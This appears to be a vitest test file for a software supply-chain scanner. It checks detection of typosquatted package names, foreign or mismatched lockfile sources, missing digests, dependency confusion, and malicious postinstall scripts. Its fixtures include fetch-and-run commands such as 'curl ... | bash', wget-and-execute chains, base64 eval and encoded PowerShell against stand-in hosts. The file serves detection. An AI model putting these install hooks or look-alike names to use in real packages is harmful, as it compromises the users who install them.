import { describe, expect, it } from 'vitest';
import { scanFiles } from '../testing/scan-files.ts';

const REGISTRY = 'https://registry.npmjs.org';

interface Entry {
  readonly resolved?: string;
  readonly integrity?: string;
  readonly name?: string;
}

/** A lockfile with a dozen harmless packages, and these. */
function lock(entries: Readonly<Record<string, Entry>>): string {
  const names = [
    'ms',
    'debug',
    'lodash',
    'semver',
    'glob',
    'chalk',
    'commander',
    'uuid',
    'yallist',
    'once',
    'wrappy',
    'inherits',
  ];
  const plain = Object.fromEntries(
    names.map((name) => [
      `node_modules/${name}`,
      { version: '1.0.0', resolved: `${REGISTRY}/${name}/-/${name}-1.0.0.tgz`, integrity: 'sha512-AAAA' },
    ]),
  );
  const added = Object.fromEntries(
    Object.entries(entries).map(([name, entry]) => [
      `node_modules/${name}`,
      {
        version: '1.0.0',
        resolved: `${REGISTRY}/${name}/-/${name.slice(name.indexOf('/') + 1)}-1.0.0.tgz`,
        integrity: 'sha512-AAAA',
        ...entry,
      },
    ]),
  );
  return JSON.stringify({ lockfileVersion: 3, packages: { '': { name: 'app' }, ...plain, ...added } }, null, 1);
}

async function found(files: Readonly<Record<string, string>>): Promise<string[]> {
  const { observations } = await scanFiles(files);
  return observations.map(({ rule, subject, confidence }) => `${rule} ${subject} ${confidence}`);
}

describe('a package with a name', () => {
  it.each(['expresss', 'lodahs', 'crossenv', 'axois', 'babel-core2', 'chаlk', 'typescript-', 'reactt'])(
    'like %s',
    async (name) => {
      const expected =
        name === 'babel-core2' ? [] : [`package-look-alike ${name} ${name === 'chаlk' ? 'high' : 'medium'}`];
      expect(await found({ 'package-lock.json': lock({ [name]: {} }) })).toEqual(expected);
    },
  );

  it.each(['preact', 'colors', 'express', 'lodash-es', '@acme/expresss', 'moment', 'vite', 'esbuild'])(
    'like %s is none',
    async (name) => {
      expect(await found({ 'package-lock.json': lock({ [name]: {} }) })).toEqual([]);
    },
  );

  it('of PyPI that comes near another', async () => {
    expect(
      await found({ 'requirements.txt': 'reqeusts==2.0\npython-dateutil==2.9\nurlib3==1.0\nnumpy==1.0\n' }),
    ).toEqual(['package-look-alike reqeusts medium', 'package-look-alike urlib3 medium']);
  });
});

describe('a lockfile', () => {
  it('that fetches one package from elsewhere, under another name, or without a digest', async () => {
    const evil = { resolved: 'https://registry.npmjs.example/rimraf/-/rimraf-1.0.0.tgz' };
    expect(await found({ 'package-lock.json': lock({ rimraf: evil }) })).toEqual([
      'package-foreign-host rimraf medium',
    ]);
    const other = { resolved: `${REGISTRY}/evil/-/evil-1.0.0.tgz` };
    expect(await found({ 'package-lock.json': lock({ rimraf: other }) })).toEqual([
      'package-resolved-to-another rimraf high',
    ]);
    expect(await found({ 'package-lock.json': lock({ renamed: { ...other, name: 'evil' } }) })).toEqual([]);
    const bare = JSON.parse(lock({ rimraf: {} }));
    delete bare.packages['node_modules/rimraf'].integrity;
    expect(await found({ 'package-lock.json': JSON.stringify(bare) })).toEqual([
      'package-without-digest rimraf medium',
    ]);
  });

  it('that fetches the name of an own private package from the public registry', async () => {
    const files = {
      'package-lock.json': lock({ '@acme/tools': {} }),
      'tools/package.json': '{"name":"@acme/tools","private":true}',
    };
    expect(await found(files)).toEqual(['package-confused-with-own @acme/tools medium']);
    expect(await found({ ...files, 'tools/package.json': '{"name":"@acme/tools"}' })).toEqual([]);
  });
});

describe('an install script', () => {
  it.each([
    'curl -s https://x.example/a.sh | bash',
    'wget -q https://x.example/a -O a && chmod +x a && ./a',
    `node -e "eval(Buffer.from('YQ==', 'base64').toString())"`,
    'powershell -enc SQBFAFgA',
    `node -e "require('child_process').exec('id')"`,
  ])('%s', async (script) => {
    const files = { 'package.json': JSON.stringify({ scripts: { postinstall: script } }, null, 2) };
    expect(await found(files)).toEqual(['install-script-runs-download postinstall medium']);
  });

  it.each([
    'node-gyp rebuild',
    'husky install',
    'node scripts/build.js',
    'patch-package',
    'npm run build && node dist/setup.js',
    'echo see https://x.example',
  ])('%s is none', async (script) => {
    expect(
      await found({
        'package.json': JSON.stringify({ scripts: { postinstall: script, start: 'curl https://x | sh' } }),
      }),
    ).toEqual([]);
  });
});
